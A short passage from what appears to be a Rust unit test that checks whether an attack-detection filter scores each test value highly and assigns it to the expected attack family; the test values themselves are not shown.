        let filter = AttackFilter::new();
        for (value, family) in cases {
            let verdict = verdict(&filter, value);
            assert!(
                verdict.score >= 5 && verdict.findings.iter().any(|f| f.family == family),
                "{value}: {verdict:?}"
            );
        }
    }
}
